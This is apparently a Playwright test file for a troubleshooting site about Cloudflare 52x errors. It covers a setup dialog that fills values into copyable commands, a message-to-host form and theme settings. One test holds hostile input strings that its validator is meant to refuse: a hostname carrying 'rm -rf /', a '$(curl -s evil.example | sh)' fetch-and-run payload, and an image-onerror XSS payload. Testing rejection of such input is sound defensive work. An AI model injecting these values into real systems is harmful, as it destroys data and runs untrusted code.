import { expect, test } from './fixtures/test';
import { PHONE } from './fixtures/viewports';

test.describe('your setup', () => {
	test('values set on one page fill the copied commands on another', async ({ page, context, codePage }) => {
		await context.grantPermissions(['clipboard-read', 'clipboard-write']);
		await page.goto('/521/');
		const dialog = await codePage.openSetup();
		await dialog.getByRole('textbox', { name: 'Hostname' }).fill('shop.example.net');
		await dialog.getByRole('textbox', { name: 'Origin IPv4 address' }).fill('198.51.100.7');
		await dialog.getByRole('button', { name: 'Save' }).click();
		await expect(dialog).toBeHidden();
		await expect(page.locator('var[data-ph="hostname"]').first()).toHaveText('shop.example.net');

		await page.goto('/522/');
		await codePage.openFolds();
		const block = page.locator('copy-code:has(var[data-ph="origin-ipv4"])').filter({ visible: true }).first();
		await block.scrollIntoViewIfNeeded();
		await expect(block.locator('var[data-ph="origin-ipv4"]').first()).toHaveText('198.51.100.7');
		await expect(block.locator('var[data-ph="origin-ipv4"]').first()).toHaveClass(/is-filled/);
		await block.getByRole('button', { name: 'Copy' }).click();
		const copied = await page.evaluate(() => navigator.clipboard.readText());
		expect(copied).toContain('198.51.100.7');
		expect(copied).not.toContain('203.0.113.10');
	});

	test('refuses values that would change a command, and shows them only as text', async ({ page, codePage }) => {
		const dialogs: string[] = [];
		page.on('dialog', (d) => {
			dialogs.push(d.message());
			void d.dismiss();
		});
		await page.goto('/521/');
		const dialog = await codePage.openSetup();
		const hostname = dialog.getByRole('textbox', { name: 'Hostname' });
		for (const evil of ['example.com; rm -rf /', '$(curl -s evil.example | sh)', '<img src=x onerror=alert(1)>']) {
			await hostname.fill(evil);
			await expect(hostname).toHaveAttribute('aria-invalid', 'true');
			await expect(dialog.locator('#setup-hostname-error')).toContainText('Not saved');
		}
		await dialog.getByRole('button', { name: 'Save' }).click();
		await expect(dialog.getByRole('status')).toHaveText('Fix the marked fields: nothing was saved.');
		await dialog.getByRole('button', { name: 'Close' }).click();
		await expect(page.locator('var[data-ph="hostname"]').first()).toHaveText('www.example.com');
		expect(await page.evaluate(() => localStorage.getItem('setup'))).toBeNull();
		await expect(page.locator('main img[src="x"]')).toHaveCount(0);
		expect(dialogs).toEqual([]);
	});

	test('the stack chosen in the setup opens every set of tabs on it', async ({ page, codePage }) => {
		await page.goto('/521/');
		const dialog = await codePage.openSetup();
		await dialog.getByRole('combobox', { name: 'Web server' }).selectOption('apache');
		await dialog.getByRole('button', { name: 'Save' }).click();
		await codePage.openFolds();
		const tabs = codePage.stackTabs();
		await tabs.scrollIntoViewIfNeeded();
		await expect(tabs.getByRole('tab', { name: 'Apache' })).toHaveAttribute('aria-selected', 'true');
		await page.goto('/520/');
		await codePage.openFolds();
		const other = codePage.stackTabs();
		await other.scrollIntoViewIfNeeded();
		await expect(other.getByRole('tab', { name: 'Apache' })).toHaveAttribute('aria-selected', 'true');

		// Back to "Not set": the tabs on this page go back to their first variant at once.
		const again = await codePage.openSetup();
		await again.getByRole('combobox', { name: 'Web server' }).selectOption('');
		await again.getByRole('button', { name: 'Save' }).click();
		await expect(other.getByRole('tab', { name: 'nginx' })).toHaveAttribute('aria-selected', 'true');
		await expect(other.getByRole('tab', { name: 'Apache' })).toHaveAttribute('aria-selected', 'false');
	});

	test('clears everything with one action', async ({ page, codePage }) => {
		await page.goto('/521/');
		let dialog = await codePage.openSetup();
		await dialog.getByRole('textbox', { name: 'Hostname' }).fill('shop.example.net');
		await dialog.getByRole('button', { name: 'Save' }).click();
		dialog = await codePage.openSetup();
		await dialog.getByRole('button', { name: 'Clear everything' }).click();
		await expect(dialog.getByRole('status')).toContainText('Cleared');
		expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => k === 'setup' || k.startsWith('stack:')))).toEqual([]);
		await expect(page.locator('var[data-ph="hostname"]').first()).toHaveText('www.example.com');
	});
});

test.describe('the message to your host', () => {
	test('contains exactly what was entered, the time with its zone, and the facts for the code', async ({ page, context }) => {
		await context.grantPermissions(['clipboard-read', 'clipboard-write']);
		await page.goto('/521/#message-to-your-host');
		const message = page.locator('host-message');
		await page.getByText('Write the message to your hosting provider').click();
		await message.getByRole('textbox', { name: 'Failing URL' }).fill('https://shop.example.net/cart');
		await message.getByRole('textbox', { name: /Ray ID/ }).fill('8a2b3c4d5e6f7a8b-FRA');
		await message.getByRole('textbox', { name: /checked already/ }).fill('nginx runs and listens on 443');
		const text = message.locator('.host-message__text');
		await expect(text).toContainText('Visitors to https://shop.example.net/cart get error 521');
		await expect(text).toContainText('Ray ID: 8a2b3c4d5e6f7a8b-FRA');
		await expect(text).toContainText('nginx runs and listens on 443');
		await expect(text).toContainText('https://www.cloudflare.com/ips/');
		await expect(text).toContainText(/\d{4}-\d\d-\d\d \d\d:\d\d \(.+, UTC[+-]\d\d:\d\d\)/);
		await message.getByRole('textbox', { name: /Ray ID/ }).fill('<b>nope</b>');
		await expect(message.locator('.host-message__error')).toContainText('Left out');
		await expect(text).not.toContainText('nope');
		await expect(message.getByRole('link', { name: /email program/ })).toBeHidden();
		await message.getByRole('button', { name: 'Make an email link' }).click();
		await expect(message.getByRole('link', { name: /email program/ })).toHaveAttribute('href', /^mailto:\?subject=Error%20521/);
	});

	test('at a troubleshooter outcome, lists the answers given so far', async ({ wizard }) => {
		await wizard.goto();
		const outcome = (await wizard.stepIds('outcome'))[0]!;
		await wizard.walkTo(outcome);
		await wizard.expectAt(outcome);
		await wizard.currentStep.getByText(/Write the message to/).click();
		const checked = wizard.currentStep.getByRole('textbox', { name: /checked already/ });
		await expect(checked).toHaveValue(/^- /);
		expect((await checked.inputValue()).split('\n')).toHaveLength(await wizard.pathSoFar.count());
		// One message per step: the form, or the step's own, never both.
		await expect(wizard.currentStep.locator('host-message, copy-code[data-lang="text"]')).toHaveCount(1);
	});

	test('at a step opened from a link, lists no answers and says why', async ({ wizard }) => {
		await wizard.goto('managed-host');
		await wizard.currentStep.getByText(/Write the message to/).click();
		await expect(wizard.currentStep.getByRole('textbox', { name: /checked already/ })).toHaveValue('');
		await expect(wizard.currentStep.getByText('You opened this step from a link, so none of your answers are listed')).toBeVisible();
		await expect(wizard.currentStep.locator('.host-message__text')).toContainText("tell me which limit or process ended them");
	});
});

test.describe('your setup in reach', () => {
	test('from the header of a page without commands; afterwards code bars say whose values they show, a hostname typed in Unicode runs as punycode, a private address is noted', async ({ page, codePage }) => {
		await page.goto('/timeouts/');
		const dialog = await codePage.openSetup();
		await dialog.getByRole('textbox', { name: 'Hostname' }).fill('bücher.example');
		await expect(dialog.getByText('Commands use its ASCII form, xn--bcher-kva.example.')).toBeVisible();
		await dialog.getByRole('textbox', { name: 'Origin IPv4 address' }).fill('192.168.1.20');
		await expect(dialog.getByText(/private address: Cloudflare connects to origins over the internet and cannot reach it/)).toBeVisible();
		await dialog.getByRole('button', { name: 'Save' }).click();
		await expect(dialog).toBeHidden();

		await codePage.goto(521);
		await codePage.openFolds();
		const block = page.locator('copy-code:has(var[data-ph="hostname"])').filter({ visible: true }).first();
		await block.scrollIntoViewIfNeeded();
		await expect(block.locator('.code-block__note')).toContainText('Your values: bücher.example · change');
		await expect(block.locator('var[data-ph="hostname"]').first()).toHaveText('xn--bcher-kva.example');
		await expect(page.locator('var[data-ph="origin-ipv4"]').first()).toHaveText('192.168.1.20');
		// "change" opens the same setup, with the name as it was typed.
		await block.getByRole('button', { name: 'change' }).click();
		await expect(page.getByRole('dialog', { name: 'Your setup' }).getByRole('textbox', { name: 'Hostname' })).toHaveValue('bücher.example');
	});

	test('on a phone: the replaced value is in view in its block, and the theme is chosen in Your setup under its name', async ({ page, codePage }) => {
		await page.setViewportSize(PHONE);
		await page.addInitScript(() => localStorage.setItem('setup', JSON.stringify({ values: { hostname: 'shop.example.net' } })));
		await codePage.goto(521);
		// The longest command that has the hostname: on a 360 px screen it runs past the block's edge.
		const pre = page.locator('copy-code:has(var.is-filled) pre').filter({ hasText: '--connect-to' }).first();
		await pre.scrollIntoViewIfNeeded();
		const inView = await pre.evaluate((el) => {
			const value = el.querySelector('var.is-filled')!.getBoundingClientRect();
			const box = el.getBoundingClientRect();
			return { overflows: el.scrollWidth > el.clientWidth, inside: value.left >= box.left && value.right <= box.right };
		});
		expect(inView).toEqual({ overflows: true, inside: true });

		await expect(page.locator('theme-select')).toBeHidden();
		const dialog = await codePage.openSetup();
		await dialog.getByRole('combobox', { name: 'Theme' }).selectOption('dark');
		await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
	});

	test('"Write to your host" opens the message over the page, where the reader is, and closing it goes back there', async ({ page, codePage }) => {
		await codePage.goto(521);
		const button = codePage.ownerAnswer.getByRole('link', { name: 'Write to your host' });
		await button.scrollIntoViewIfNeeded();
		const before = await page.evaluate(() => scrollY);
		await button.click();
		const dialog = page.getByRole('dialog', { name: /Write to your hosting provider/ });
		await expect(dialog.getByRole('textbox', { name: 'Failing URL' })).toBeVisible();
		expect(await page.evaluate(() => scrollY)).toBe(before);
		await dialog.getByRole('textbox', { name: /checked already/ }).fill('nginx runs');
		await dialog.getByRole('button', { name: 'Close' }).click();
		await expect(dialog).toBeHidden();
		await expect(button).toBeFocused();
		expect(await page.evaluate(() => scrollY)).toBe(before);
		// The form is back in its section, with what was typed.
		await expect(page.locator('#message-to-your-host ~ details host-message, section:has(#message-to-your-host) host-message').getByRole('textbox', { name: /checked already/, includeHidden: true })).toHaveValue('nginx runs');
	});
});
